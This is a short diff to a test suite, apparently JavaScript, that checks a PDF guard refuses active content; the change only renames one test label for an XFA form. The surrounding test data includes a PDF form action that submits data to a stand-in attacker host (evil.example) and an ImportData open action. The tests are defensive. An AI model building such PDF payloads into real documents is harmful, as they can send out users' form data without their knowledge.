@@ -78,7 +78,7 @@ describe('GUARD-10 active content is refused', () => {
   refuses('pdf-form', [
     ['a form that is sent', annotation('/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >>')],
     ['a form that fetches data', openAction('<< /S /ImportData /F (a.fdf) >>')],
-    ['a form of its own making (XFA)', pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
+    ['an XFA form', pdfWith({ catalog: '/AcroForm << /XFA 4 0 R >>' })],
   ]);
 
   refuses('pdf-elsewhere', [
